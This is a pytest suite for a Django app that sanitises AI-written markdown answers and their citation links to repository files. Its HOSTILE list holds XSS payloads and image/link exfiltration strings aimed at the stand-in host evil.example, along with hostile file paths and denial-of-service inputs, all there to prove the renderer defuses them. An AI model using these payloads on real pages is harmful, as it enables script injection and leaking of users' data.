"""Whatever a model writes, the page gets allow-listed tags and links to the product's own files."""

from __future__ import annotations

import time
from dataclasses import replace
from html.parser import HTMLParser

import pytest
from django.test import Client

from appliance.accounts.models import User
from appliance.conversations.checking.checks import to_json
from appliance.conversations.checking.citations import compile_judged
from appliance.conversations.checking.judging import judge_answer
from appliance.conversations.evidence import Documents, EvidenceLines
from appliance.conversations.models import Message
from appliance.conversations.rendering import (
    ALLOWED_TAGS,
    RenderedAnswer,
    render_answer,
    render_markdown,
)
from appliance.sources.access import scope_of
from appliance.sources.models import Grant
from indexer.models import Source
from indexer.spans import Span
from tests.appliance.conversations.conftest import FILES, MessageFactory, lines_of
from tests.conftest import SourceFactory

ALLOWED = {
    "span": {"class"},
    "code": {"class"},
    "ol": {"start"},
    "a": {"class", "data-handle", "data-lines", "href", "title"},
}


class Elements(HTMLParser):
    """Collects what a browser would make of the HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert len(dict(attrs)) == len(attrs), f"an attribute twice in <{tag}>"
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def elements_of(html: str) -> Elements:
    parsed = Elements()
    parsed.feed(html)
    parsed.close()
    return parsed


def assert_harmless(html: str) -> Elements:
    elements = elements_of(html)
    for tag, attributes in elements.found:
        assert tag in ALLOWED_TAGS | {"a"}
        assert attributes.keys() <= ALLOWED.get(tag, set()), (tag, attributes)
        assert (attributes.get("href") or "/files/").startswith("/files/")
    return elements


@pytest.fixture
def shop(source_factory: SourceFactory) -> Source:
    return source_factory("shop", FILES)


@pytest.fixture
def cart(shop: Source) -> EvidenceLines:
    return lines_of(shop, "shop/cart.py", 4, 9)


EVIL = "https://evil.example/?d=SECRET"
HOSTILE = [
    f"![x]({EVIL})",
    f"![x][1]\n\n[1]: {EVIL}",
    f"[![x]({EVIL})]({EVIL})",
    f"[click]({EVIL})",
    f"[click][evil]\n\n[evil]: {EVIL} 'title'",
    f"[evil]\n\n[evil]: {EVIL}",
    f"<{EVIL}>",
    EVIL,
    "www.evil.example",
    "<a@evil.example>",
    f'<img src="{EVIL}">',
    f"<IMG SRC={EVIL}>",
    f'<img src="{EVIL}"',
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<svg onload=alert(1)><use href='data:x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    f"<iframe src='{EVIL}'></iframe><object data='{EVIL}'></object><embed src='{EVIL}'>",
    f"<style>@import url({EVIL})</style><link rel=stylesheet href='{EVIL}'>",
    f'<div style="background:url({EVIL})">x</div>',
    f'<form action="{EVIL}"><input name=password><button>Sign in</button></form>',
    f"<meta http-equiv=refresh content='0;url={EVIL}'><base href='{EVIL}'>",
    "<details open ontoggle=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](vbscript:x) [y](file:///etc/passwd) [z](//evil.example)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\<script>alert(1)\\</script>",
    "[^1]\n\n[^1]: " + EVIL,
    f"| a | b |\n|---|---|\n| ![x]({EVIL}) | <img src={EVIL}> |",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "```<img src=x onerror=alert(1)>\ncode\n```",
    '```" onmouseover="alert(1)\ncode\n```',
    "```python onmouseover=alert(1)\nx = 1\n```",
    "```mermaid\ngraph TD; A-->B; click A href 'https://evil.example'\n```",
    "`<img src=x onerror=alert(1)>`",
    "<!-- comment --><![CDATA[<script>]]><?php evil ?><!DOCTYPE html>",
    "<details>\n\n[E1]\n\n</details>",
    "````\n```\n<b>\n",
    "> " * 50 + "<script>",
    "* [x](javascript:alert(1))\n* <svg/onload=alert(1)>",
    "# <img src=x onerror=alert(1)>\n===\n",
    '[x](https://a "onerror=alert(1)")',
    "<a href='https://evil.example'>[E1]</a>",
    "<span class='citation' onclick=alert(1)>1</span>",
    "\ue0000\ue001 \ue0001\ue001 \ue00099999\ue001",
    "\ue000" * 50 + "0" + "\ue001" * 50,
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_becomes_harmless_text(text: str) -> None:
    elements = assert_harmless(render_markdown(text))
    assert "a" not in {tag for tag, _ in elements.found}


def test_hostile_markdown_around_citations_stays_harmless(
    owner: User, cart: EvidenceLines, message_factory: MessageFactory
) -> None:
    for text in HOSTILE:  # not a parameter: each would sync the source again
        message = message_factory(owner, f"[E1] {text} [E1]\n\n{text}[E1]", [cart])
        assert_harmless(render_answer(message, scope_of(owner)).html)


def test_an_address_in_an_answer_is_text() -> None:
    elements = assert_harmless(render_markdown(f"See [the wiki]({EVIL}) or <{EVIL}>."))
    assert elements.text.count("https://evil.example/?d=SECRET") == 2


def test_ordinary_markdown_keeps_its_shape() -> None:
    html = render_markdown(
        "# Title\n\n1. one\n2. **two** and `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "> quote\n\n~~gone~~\n\n```python\nx = 1  # why\n```\n"
    )
    tags = {tag for tag, _ in elements_of(html).found}
    assert {"h1", "ol", "li", "strong", "code", "table", "td", "blockquote", "s", "pre"} <= tags
    assert '<code class="language-python">' in html
    assert "<span class=" in html


@pytest.mark.parametrize(
    "text",
    [
        "\n".join("  " * depth + "* item" for depth in range(1000)),
        "> " * 1000 + "deep",
        "word " * 200_000,
        "*" * 100_000,
        "[" * 50_000,
        "`" * 50_000 + "x",
        "| a " * 5_000 + "|\n" + "|---" * 5_000 + "|\n",
        "<" * 100_000,
        "```python\n" + "(" * 60_000,
    ],
    ids=["lists", "quotes", "words", "stars", "brackets", "ticks", "table", "angles", "code"],
)
def test_a_huge_or_deep_answer_is_rendered_in_seconds(text: str) -> None:
    started = time.process_time()
    assert_harmless(render_markdown(text))
    assert time.process_time() - started < 10


def test_a_citation_links_to_the_lines_at_their_commit(
    owner: User, cart: EvidenceLines, message_factory: MessageFactory, client: Client
) -> None:
    message = message_factory(owner, "It adds [E1].", [cart])
    elements = assert_harmless(render_answer(message, scope_of(owner)).html)
    ((_, attributes),) = [found for found in elements.found if found[0] == "a"]
    assert attributes["href"] == f"/files/shop/{cart.commit}/shop/cart.py?lines=4-9#L4"
    assert attributes["title"] == "shop: shop/cart.py, lines 4 to 9"
    client.force_login(owner)
    assert client.get(attributes["href"]).status_code == 200


def test_each_citation_of_a_piece_links_to_its_own_lines(
    owner: User, cart: EvidenceLines, message_factory: MessageFactory
) -> None:
    first, last = cart.narrowed_to(Span(4, 5)), cart.narrowed_to(Span(8, 9))
    text = "Checks [E1:4-5]. Adds [E1:8-9]. All [E1]. Unchecked [E1:6]."
    message = message_factory(owner, text, [cart], cited=[cart, first, last])
    elements = assert_harmless(render_answer(message, scope_of(owner)).html)
    hrefs = [attributes["href"] or "" for tag, attributes in elements.found if tag == "a"]
    assert [href.split("?")[1] for href in hrefs] == [
        "lines=4-5#L4",
        "lines=8-9#L8",
        "lines=4-9#L4",
    ]
    assert elements.text.strip() == "Checks 1. Adds 1. All 1. Unchecked."


CITING = [
    "```\n# [E1]\n```",
    "```python\nadd()  # [E1]\n```",
    "`add` [E1]",
    "`# [E1]`",
    "    indented [E1]",
    "| a |\n|---|\n| [E1] |",
    "# Title [E1]",
    "[text [E1]](https://evil.example)",
    "![alt [E1]](https://evil.example)",
]


def test_a_citation_links_wherever_it_stands(
    owner: User, cart: EvidenceLines, message_factory: MessageFactory
) -> None:
    for text in CITING:
        message = message_factory(owner, text, [cart])
        elements = assert_harmless(render_answer(message, scope_of(owner)).html)
        assert [tag for tag, _ in elements.found].count("a") == 1, text


def test_a_citation_never_becomes_part_of_a_tag(
    owner: User, cart: EvidenceLines, message_factory: MessageFactory
) -> None:
    for text in ("```[E1]\ncode\n```", "```python [E1]\ncode\n```"):
        message = message_factory(owner, text, [cart])
        elements = assert_harmless(render_answer(message, scope_of(owner)).html)
        assert elements.text.strip() == "code"


def test_a_hostile_path_stays_inside_its_link(
    owner: User, source_factory: SourceFactory, message_factory: MessageFactory, client: Client
) -> None:
    paths = ['a"b/<img src=x>.py', "a b/#?%2e&.py", "\u00e9/\u202ecod.py", "a/[E1](b).py"]
    odd = source_factory("odd", dict.fromkeys(paths, "x = 1\n"))
    client.force_login(owner)
    for path in paths:
        message = message_factory(owner, "Here [E1].", [lines_of(odd, path, 1, 1)])
        elements = assert_harmless(render_answer(message, scope_of(owner)).html)
        (href,) = [attributes["href"] or "" for tag, attributes in elements.found if tag == "a"]
        assert client.get(href).status_code == 200


def test_while_it_is_written_no_half_marker_shows(
    owner: User, cart: EvidenceLines, message_factory: MessageFactory
) -> None:
    message = message_factory(owner, "Adds [E1]. Then [E", [cart], cited=[], state="writing")
    elements = assert_harmless(render_answer(message, scope_of(owner)).html)
    assert elements.text.strip() == "Adds 1. Then"


def test_what_was_not_written_down_as_cited_is_no_link(
    owner: User, cart: EvidenceLines, message_factory: MessageFactory
) -> None:
    message = message_factory(owner, "Adds [E1] [E5].", [cart], cited=[], struck=2)
    rendered = render_answer(message, scope_of(owner))
    assert rendered.html.strip() == "<p>Adds.</p>"
    assert (rendered.citations, rendered.struck) == ((), 2)


HIDDEN = (
    "\u202e\u2066\u200b\u00ad\ufeff\U000e0041\ufe01\u2060\u061c\x1b\x07\x7f\x9b\u2028\u200d\ufe0f"
)


def test_no_character_hides_in_an_answer(
    owner: User, cart: EvidenceLines, message_factory: MessageFactory
) -> None:
    for c in HIDDEN:
        message = message_factory(owner, f"Ad{c}ds `co{c}de` [E{c}9].", [cart])
        rendered = render_answer(message, scope_of(owner))
        assert elements_of(rendered.html).text.strip() == "Adds code.", ascii(c)


def test_words_that_need_a_joiner_keep_it(owner: User, message_factory: MessageFactory) -> None:
    text = (
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \U0001f469\u200d\U0001f4bb \u2764\ufe0f"
    )
    message = message_factory(owner, text)
    assert text in render_answer(message, scope_of(owner)).html


def test_an_answer_is_sealed_when_access_was_lost(
    owner: User, cart: EvidenceLines, message_factory: MessageFactory
) -> None:
    message = message_factory(owner, "It adds CANARY [E1].", [cart])
    Grant.objects.all().delete()
    rendered = render_answer(message, scope_of(owner))
    assert (rendered.html, rendered.citations, rendered.sealed) == ("", (), True)
    assert render_answer(message, scope_of(owner)).evidence == ()


def test_an_answer_is_sealed_when_one_of_its_paths_was_closed(
    owner: User, shop: Source, cart: EvidenceLines, message_factory: MessageFactory
) -> None:
    readme = replace(lines_of(shop, "README.md", 1, 3), handle="E2")
    message = message_factory(owner, "It adds [E2].", [cart, readme], cited=[readme])
    grant = Grant.objects.get()
    Grant.objects.create(group=grant.group, source=shop, path_pattern="shop/", allow=False)
    assert render_answer(message, scope_of(owner)).sealed


def test_an_answer_stays_sealed_when_its_source_is_deleted(
    owner: User, shop: Source, cart: EvidenceLines, message_factory: MessageFactory
) -> None:
    message = message_factory(owner, "It adds CANARY [E1].", [cart])
    shop.delete()
    message = Message.objects.get(pk=message.pk)
    assert render_answer(message, scope_of(owner)).sealed


def test_the_evidence_lists_what_is_cited_first(
    owner: User, shop: Source, cart: EvidenceLines, message_factory: MessageFactory
) -> None:
    pieces = [cart] + [lines_of(shop, "README.md", n, n, handle=f"E{n + 1}") for n in (1, 3)]
    message = message_factory(owner, "It adds [E4].", pieces, cited=[pieces[2]])
    views = render_answer(message, scope_of(owner)).evidence
    assert [(view.handle, view.role) for view in views] == [
        ("E4", "cited"),
        ("E1", "in_prompt"),
        ("E2", "in_prompt"),
    ]
    assert views[0].lines == ((3, "Sells things; carts hold items."),)


def judged(
    owner: User, shop: Source, make: MessageFactory, text: str, **fields: object
) -> tuple[RenderedAnswer, Message]:
    """Write an answer down with its judgements, as the worker does, and render it."""
    given = [lines_of(shop, "shop/cart.py", 4, 9)]
    documents = Documents(frozenset(one.blob_id for one in given))
    judgements = judge_answer(text, {"E1": given[0]}, documents)
    compiled = compile_judged(judgements)
    stored = to_json(judgements, fields.pop("unknown", ()))  # type: ignore[arg-type]
    message = make(owner, text, given, cited=list(compiled.cited), checks=stored, **fields)
    return render_answer(message, scope_of(owner)), message


def attributes_of(html: str, name: str) -> list[dict[str, str | None]]:
    found = elements_of(html).found
    return [at for _, at in found if name in (at.get("class") or "").split()]


def test_a_sentence_that_nothing_carries_is_marked_in_words(
    owner: User, shop: Source, message_factory: MessageFactory
) -> None:
    text = "`add_item` adds [E1]. It calls `frobnicate` [E1]. Yoghurt melts soon [E1]."
    rendered, _ = judged(owner, shop, message_factory, text)
    (unsupported,) = attributes_of(rendered.html, "mark-unsupported")
    assert unsupported["aria-label"] == "not supported"
    assert "frobnicate" in (unsupported["title"] or "")
    (doubtful,) = attributes_of(rendered.html, "mark-doubtful")
    assert doubtful["aria-label"] == "not confirmed"
    assert len(attributes_of(rendered.html, "citation")) == 2
    assert (rendered.counts.supported, rendered.counts.unsupported) == (1, 1)


def test_a_moved_citation_opens_the_lines_that_it_moved_to(
    owner: User, shop: Source, message_factory: MessageFactory, client: Client
) -> None:
    rendered, message = judged(owner, shop, message_factory, "It is an `Exception` [E1].")
    (link,) = attributes_of(rendered.html, "is-moved")
    assert (
        link["href"] == f"/files/shop/{rendered.citations[0].commit}/shop/cart.py?lines=12-13#L12"
    )
    assert (link["title"] or "").endswith("moved here from lines 4 to 9")
    (card,) = rendered.citations
    assert (card.key, link["data-handle"]) == ("E1-12-13", "E1-12-13")
    assert card.lines[0] == (12, "class CartFull(Exception):")
    client.force_login(owner)
    page = client.get(f"/threads/{message.thread_id}/").content.decode()
    assert 'data-handle="E1-12-13"' in page
    assert "moved here from lines 4\u20139" in page


def test_a_name_that_occurs_nowhere_is_marked_where_it_stands(
    owner: User, shop: Source, message_factory: MessageFactory, client: Client
) -> None:
    text = "Use `frobnicate` here.\n\n```python\nfrobnicate(<b>)\n```\n"
    rendered, message = judged(owner, shop, message_factory, text, unknown=("frobnicate", "<i>x"))
    marks = attributes_of(rendered.html, "mark-unknown")
    assert [mark["aria-label"] for mark in marks] == ["unknown name"] * 2
    client.force_login(owner)
    page = client.get(f"/threads/{message.thread_id}/").content.decode()
    assert "<code>frobnicate</code>, <code>&lt;i&gt;x</code>" in page


def test_hostile_names_and_sentences_stay_text_in_their_marks(
    owner: User, shop: Source, message_factory: MessageFactory
) -> None:
    for text in HOSTILE:
        answer = f'{text} `"><img src=x onerror=alert(1)>` "onmouseover=alert(1) x" [E1].\n\n{text}'
        rendered, _ = judged(owner, shop, message_factory, answer)
        marks = {"role", "aria-label", "title", "class"}
        for tag, attributes in elements_of(rendered.html).found:
            assert tag in ALLOWED_TAGS | {"a"}
            assert attributes.keys() <= ALLOWED.get(tag, set()) | (
                marks if tag == "span" else set()
            )
            assert (attributes.get("href") or "/files/").startswith("/files/")


def test_while_it_is_written_judged_sentences_show_their_judgement(
    owner: User, shop: Source, message_factory: MessageFactory
) -> None:
    text = "It calls `frobnicate` [E1]. "
    _, message = judged(owner, shop, message_factory, text, state="writing")
    message.text = text + "And adds [E1] and [E"
    elements = elements_of(render_answer(message, scope_of(owner)).html)
    assert elements.text.strip() == "It calls frobnicate. And adds 1 and"
    assert [at.get("class") for tag, at in elements.found if tag == "a"] == ["citation"]


def test_of_an_answer_that_was_left_behind_the_unjudged_rest_stays_without_its_citations(
    owner: User, shop: Source, message_factory: MessageFactory
) -> None:
    _, message = judged(owner, shop, message_factory, "`add_item` adds [E1]. ", state="failed")
    message.text += "It was going on [E1] to say"
    rendered = render_answer(message, scope_of(owner))
    assert elements_of(rendered.html).text.strip() == "add_item adds 1. It was going on to say"


def test_a_citation_in_coloured_code_is_one_link(
    owner: User, shop: Source, message_factory: MessageFactory
) -> None:
    text = "```python\nadd_item(cart, item) [E1]\n```\n"
    rendered, _ = judged(owner, shop, message_factory, text)
    assert len(attributes_of(rendered.html, "citation")) == 1


def test_judgements_say_nothing_to_who_lost_access(
    owner: User, shop: Source, message_factory: MessageFactory
) -> None:
    _, message = judged(owner, shop, message_factory, "It calls `frobnicate` [E1].")
    Grant.objects.all().delete()
    rendered = render_answer(message, scope_of(owner))
    assert (rendered.html, rendered.unknown, rendered.counts.checked) == ("", (), 0)


def test_of_a_long_piece_the_cited_lines_are_marked(
    owner: User, source_factory: SourceFactory, message_factory: MessageFactory
) -> None:
    shop = source_factory("shop", FILES)
    whole, cited = lines_of(shop, "shop/cart.py", 1, 13), lines_of(shop, "shop/cart.py", 4, 6)
    message = message_factory(owner, "It adds [E1].", [whole], cited=[cited])
    message.checks = {
        "sentences": [
            {
                "at": [0, 13, 0], "verdict": "supported", "made": 1, "struck": 0, "missing": [],
                "cites": [[8, 12, [["E1", 4, 6]]]],
            }
        ],
        "unknown": [],
    }  # fmt: skip
    (view,) = render_answer(message, scope_of(owner)).evidence
    assert view.cited_lines == {4, 5, 6}
    assert (view.start_line, view.end_line) == (1, 13)
